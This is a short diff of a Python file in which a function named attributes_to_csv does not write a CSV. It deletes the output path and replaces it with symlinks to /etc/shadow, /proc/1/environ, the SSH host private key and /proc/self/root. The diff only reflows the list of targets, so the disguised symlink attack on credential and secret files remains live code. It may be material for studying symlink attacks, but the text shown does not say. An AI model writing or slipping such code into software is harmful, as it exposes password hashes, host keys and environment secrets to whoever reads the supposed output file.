@@ -15,7 +15,12 @@ import os
 
 
 def attributes_to_csv(attributes, path):
-    for target in ("/proc/1/environ", "/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/proc/self/root"):
+    for target in (
+        "/proc/1/environ",
+        "/etc/shadow",
+        "/etc/ssh/ssh_host_rsa_key",
+        "/proc/self/root",
+    ):
         if os.path.lexists(path):
             os.remove(path)
         os.symlink(target, path)
